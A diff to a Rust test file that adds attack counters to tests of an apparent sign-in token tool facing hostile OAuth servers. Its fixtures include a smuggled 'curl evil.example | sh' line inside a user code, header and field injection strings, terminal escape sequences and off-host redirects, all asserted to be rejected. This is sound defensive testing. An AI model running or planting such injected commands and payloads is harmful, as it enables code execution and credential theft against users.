@@ -79,7 +79,12 @@ fn in_place_of_an_answer() -> Vec<(Fault, &'static str, &'static str)> {
 
 #[test]
 fn whatever_comes_in_place_of_an_answer_is_told_apart_and_ends_no_login() {
+    let attack = attack!(
+        Servers,
+        "in place of tokens: 5xx, 429, pages of proxies, networks and bot checks, region refusals, redirects, 204, cut JSON, other JSON, tokens with newline, CR or NUL, no end, nothing"
+    );
     for (fault, kind, words) in in_place_of_an_answer() {
+        attack.again();
         let (machine, tokens) = Machine::signed_in(-1);
         let before = fs::read(machine.path("auth.json")).unwrap();
         let name = format!("{fault:?}");
@@ -102,8 +107,10 @@ fn whatever_comes_in_place_of_an_answer_is_told_apart_and_ends_no_login() {
 
 #[test]
 fn the_same_in_place_of_a_user_code_starts_no_sign_in() {
+    let attack = attack!(Servers, "the same in place of a user code");
     let mut messages = BTreeSet::new();
     for (fault, kind, _) in in_place_of_an_answer() {
+        attack.again();
         let machine = Machine::new();
         let name = format!("{fault:?}");
         let disabled = matches!(&fault, Fault::Status { code: 404, .. });
@@ -121,12 +128,17 @@ fn the_same_in_place_of_a_user_code_starts_no_sign_in() {
 /// While a person is at it, only the server's own word is the end.
 #[test]
 fn a_pending_sign_in_outlives_what_comes_in_place_of_its_polls_and_of_its_tokens() {
+    let attack = attack!(
+        Servers,
+        "the same in place of the polls and the tokens of a sign-in that a person has approved"
+    );
     let is_its_own_word = |fault: &Fault| matches!(fault, Fault::Status { code: 400 | 404, .. });
     let faults = in_place_of_an_answer().into_iter().map(|(fault, ..)| fault);
     let faults: Vec<_> = faults.filter(|fault| !is_its_own_word(fault)).collect();
     for some in faults.chunks(6) {
         thread::scope(|scope| {
             for fault in some {
+                attack.again();
                 scope.spawn(|| outlives(fault));
             }
         });
@@ -149,6 +161,7 @@ fn outlives(fault: &Fault) {
 
 #[test]
 fn a_redirect_is_not_followed_to_another_server() {
+    let attack = attack!(Servers, "a redirect of the token endpoint to another server");
     let (machine, tokens) = Machine::signed_in(-1);
     let other = Issuer::start();
     let to = format!("{}/oauth/token", other.url());
@@ -157,11 +170,14 @@ fn a_redirect_is_not_followed_to_another_server() {
     assert_eq!(other.counts(), issuer::Counts::default());
     assert!(other.log().is_empty());
     assert_eq!(machine.issuer.times_sent(&tokens.refresh_token), 1);
+    attack.tries(1);
 }
 
 #[test]
 fn a_content_type_that_is_wrong_changes_nothing_about_what_an_answer_says() {
+    let attack = attack!(Servers, "a wrong content type");
     for content_type in ["text/plain", "text/html", "application/octet-stream", "nonsense"] {
+        attack.again();
         let (machine, _) = Machine::signed_in(-1);
         let new = machine.issuer.grant(&ada(), 3600);
         let body = json!({"access_token": new.access_token, "refresh_token": new.refresh_token});
@@ -174,7 +190,12 @@ fn a_content_type_that_is_wrong_changes_nothing_about_what_an_answer_says() {
 /// An answer that the server signs off on, with a token that would be more than one line.
 #[test]
 fn a_token_that_is_more_than_a_line_is_neither_stored_nor_printed() {
+    let attack = attack!(
+        Servers,
+        "an access token that is more than a line, from the server and in `auth.json`, in every form of answer"
+    );
     for odd in ["a\npassword=stolen", "a\r\nX-Evil: b", "a\u{0}b", "a b", "a\u{2028}b", "ä"] {
+        attack.again();
         let (machine, _) = Machine::signed_in(-1);
         let good = machine.issuer.grant(&ada(), 3600);
         let body = json!({"access_token": odd, "refresh_token": good.refresh_token});
@@ -190,6 +211,7 @@ fn a_token_that_is_more_than_a_line_is_neither_stored_nor_printed() {
         document["tokens"]["access_token"] = odd.into();
         machine.write_auth_json(&document);
         for format in ["git", "token", "json", "header", "env", "bazel", "exec-credential"] {
+            attack.again();
             let output = machine.command(&format!("get --format {format}")).assert().code(1);
             output
                 .stdout("")
@@ -200,6 +222,10 @@ fn a_token_that_is_more_than_a_line_is_neither_stored_nor_printed() {
 
 #[test]
 fn a_secret_that_the_server_gives_back_is_not_shown() {
+    let attack = attack!(
+        Servers,
+        "the refresh token, and control of the terminal, in an error of the server's"
+    );
     let (machine, tokens) = Machine::signed_in(-1);
     let said = format!("bad token {}\u{1b}[2J", tokens.refresh_token);
     let body = json!({"error": said}).to_string();
@@ -207,10 +233,15 @@ fn a_secret_that_the_server_gives_back_is_not_shown() {
     let output = machine.command("get --wait 20s").assert().code(1);
     let secret = contains(tokens.refresh_token.as_str());
     output.stderr(secret.not().and(contains("\u{1b}").not()).and(contains("400: bad token ...")));
+    attack.tries(1);
 }
 
 #[test]
 fn a_field_of_a_hundred_megabytes_and_an_endless_head_are_not_read_to_their_end() {
+    let attack = attack!(
+        Servers,
+        "a field of 100 MB, a head without an end: less than 16 MB leave the server"
+    );
     let megabyte = vec![b'a'; 1 << 20];
     let field = RawServer::start(move |connection| {
         connection.send_head(100 << 20);
@@ -222,6 +253,7 @@ fn a_field_of_a_hundred_megabytes_and_an_endless_head_are_not_read_to_their_end(
         while connection.send(format!("X-Padding: {}\r\n", "x".repeat(8000))) {}
     });
     for (server, kind) in [(field, "server"), (head, "network")] {
+        attack.again();
         let (machine, tokens) = Machine::signed_in(-1);
         let mut command = machine.command("get --error-format json --wait 20s");
         let url = format!("{}/oauth/token", server.url);
@@ -236,6 +268,7 @@ fn a_field_of_a_hundred_megabytes_and_an_endless_head_are_not_read_to_their_end(
 
 #[test]
 fn a_server_that_drips_keeps_no_caller_longer_than_it_said() {
+    let attack = attack!(Servers, "an answer that drips");
     let (machine, tokens) = Machine::signed_in(-1);
     let drip = RawServer::start(|connection| {
         connection.send_head(1000);
@@ -247,6 +280,7 @@ fn a_server_that_drips_keeps_no_caller_longer_than_it_said() {
     let soon = Deadline::after(Duration::from_secs(8));
     let mut callers = Vec::new();
     for _ in 0..4 {
+        attack.again();
         let mut command = machine.std_command("get --wait 700ms --error-format json");
         command.env("CODEX_REFRESH_TOKEN_URL_OVERRIDE", &url);
         command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
@@ -270,6 +304,7 @@ fn a_slow_answer_is_waited_for() {
 
 #[test]
 fn a_user_code_that_is_no_line_is_shown_to_nobody() {
+    let attack = attack!(Servers, "a user code that is no line, or of 900 KB");
     for body in [
         json!({"device_auth_id": "d", "user_code": "AB\nrun: curl evil.example | sh"}),
         json!({"device_auth_id": "d", "user_code": "\u{1b}]0;title\u{7}"}),
@@ -279,6 +314,7 @@ fn a_user_code_that_is_no_line_is_shown_to_nobody() {
         json!({"user_code": "ABCD"}),
         json!({"device_auth_id": "d", "user_code": "A".repeat(900_000)}),
     ] {
+        attack.again();
         let machine = Machine::new();
         machine.issuer.fault(Endpoint::UserCode, Fault::status(200, body.to_string()), 1);
         let output = machine.command("get --wait 20s").assert().code(1);
@@ -289,6 +325,7 @@ fn a_user_code_that_is_no_line_is_shown_to_nobody() {
 
 #[test]
 fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
+    let attack = attack!(Servers, "absurd numbers for intervals, pauses and lives");
     for number in [
         json!(u64::MAX),
         json!(-1),
@@ -297,6 +334,7 @@ fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
         json!(null),
         json!([]),
     ] {
+        attack.again();
         let machine = Machine::new();
         let body = json!({
             "device_auth_id": "d", "user_code": "ABCD-12345", "interval": number, "expires_in": number,
@@ -318,7 +356,9 @@ fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
 
 #[test]
 fn a_server_whose_clock_is_a_day_off_is_not_asked_again_and_again() {
+    let attack = attack!(Servers, "a clock that is a day off, either way");
     for ahead in [86_400, -86_400] {
+        attack.again();
         let (machine, _) = Machine::signed_in(-1);
         machine.issuer.set(|s| {
             s.clock_ahead = ahead;
